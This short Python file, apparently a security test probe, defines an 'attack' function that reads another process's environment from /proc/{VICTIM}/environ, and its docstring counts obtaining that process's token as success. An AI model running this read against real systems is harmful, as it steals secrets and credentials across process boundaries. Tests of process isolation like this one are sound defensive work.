"""Read another process's environment. Success: its token."""


def attack():
    return open(f"/proc/{VICTIM}/environ", "rb").read()
